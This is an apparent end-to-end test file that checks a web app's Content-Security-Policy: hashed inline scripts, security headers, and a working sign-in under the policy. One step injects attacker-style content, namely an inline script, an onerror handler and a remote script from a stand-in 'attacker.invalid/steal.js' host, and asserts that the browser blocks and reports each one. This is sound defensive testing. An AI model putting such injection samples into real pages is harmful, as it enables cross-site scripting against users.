/**
 * The built page runs under a strict Content-Security-Policy (issue 28): index.html carries it in a <meta> first in
 * its head, with the hash of each of its inline scripts and no 'unsafe-inline' (and the static server adds the
 * headers a meta policy cannot say); the app signs in through the
 * sandbox's OAuth screens and shows home with its pictures (every spec runs under the policy, and the runner fails
 * a spec the policy refused anything in). Then, in a page of its own, what an attacker would inject does not run:
 * an inline script added to the page, an inline event handler, a script from another origin; each is reported as
 * a violation of script-src.
 */
import assert from 'node:assert/strict';
import { firstTimelinePost, signInThroughOAuth } from '../harness/sign-in-flow';
import { stepper } from '../harness/stepper';
import { tracer } from '../harness/app-journey';
import type { SpecContext } from '../harness/types';

export const name = 'content-security-policy';

/** the policy's directives from index.html, by name */
async function servedPolicy(clientUrl: string): Promise<Map<string, string[]>> {
  const answer = await fetch(`${clientUrl}/`);
  // what a meta policy cannot say comes as the headers README asks a host to add
  assert.equal(answer.headers.get('content-security-policy'), "frame-ancestors 'none'");
  assert.equal(answer.headers.get('x-content-type-options'), 'nosniff');
  assert.equal(answer.headers.get('referrer-policy'), 'no-referrer');
  const html = await answer.text();
  const tag = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html);
  assert.ok(tag, 'index.html carries a Content-Security-Policy');
  assert.ok(
    html.indexOf(tag[0]) < html.indexOf('<script'),
    'the policy comes before the first script, so it covers them all',
  );
  return new Map(
    tag[1]!.split(';').map((directive) => {
      const [key = '', ...sources] = directive.trim().split(/\s+/);
      return [key, sources];
    }),
  );
}

export async function run({ page, context, clientUrl }: SpecContext): Promise<void> {
  const trace = tracer(name);
  const { step, failures } = stepper(page, name, trace);

  await step('index.html: inline scripts by hash only, no plugins, no <base>', async () => {
    const policy = await servedPolicy(clientUrl);
    const scripts = policy.get('script-src') ?? [];
    assert.equal(scripts[0], "'self'");
    assert.ok(scripts.length >= 4, `each inline script has its hash: ${scripts.join(' ')}`);
    assert.ok(
      scripts.slice(1).every((source) => /^'sha256-[A-Za-z0-9+/]+=*'$/.test(source)),
      'nothing but hashes beside self',
    );
    assert.deepEqual(policy.get('object-src'), ["'none'"]);
    assert.deepEqual(policy.get('base-uri'), ["'none'"]);
    assert.ok(!(policy.get('style-src') ?? []).includes("'unsafe-inline'"));
  });

  await step('the app works under it: sign-in, home with its pictures', async () => {
    await signInThroughOAuth(page, clientUrl, 'alice');
    await firstTimelinePost(page);
    // the avatars of the first posts have loaded from the sandbox (img-src allows the server's media)
    await page.waitForFunction(() =>
      [...document.querySelectorAll<HTMLImageElement>('[role="feed"] article img')].some(
        (image) => image.complete && image.naturalWidth > 0,
      ),
    );
  });

  await step('what an attacker injects does not run, and is reported', async () => {
    // a page of its own: the runner fails this spec's own pages on any violation
    const probe = await context.browser()!.newContext();
    try {
      const other = await probe.newPage();
      await other.goto(`${clientUrl}/`);
      await other.locator('#root *').first().waitFor();
      const outcome = await other.evaluate(async () => {
        const seen: string[] = [];
        document.addEventListener('securitypolicyviolation', (event) => seen.push(event.effectiveDirective));
        const ran = window as unknown as Record<string, unknown>;
        const inline = document.createElement('script');
        inline.textContent = 'window.__injectedInline = true';
        document.head.append(inline);
        const handler = document.createElement('img');
        handler.setAttribute('onerror', 'window.__injectedHandler = true');
        handler.src = 'data:,not-a-picture';
        document.body.append(handler);
        const remote = document.createElement('script');
        remote.src = 'https://attacker.invalid/steal.js';
        document.head.append(remote);
        // the reports are events of their own: wait for the three
        for (let turn = 0; turn < 100 && seen.length < 3; turn += 1) await new Promise((r) => setTimeout(r, 20));
        return {
          inline: ran.__injectedInline === true,
          handler: ran.__injectedHandler === true,
          seen,
        };
      });
      assert.equal(outcome.inline, false, 'an injected inline script does not run');
      assert.equal(outcome.handler, false, 'an injected inline event handler does not run');
      assert.deepEqual(
        [...outcome.seen].sort(),
        ['script-src-attr', 'script-src-elem', 'script-src-elem'],
        `each is reported: ${outcome.seen.join(', ')}`,
      );
    } finally {
      await probe.close();
    }
  });

  if (failures.length > 0) throw new Error(failures.join('\n'));
}
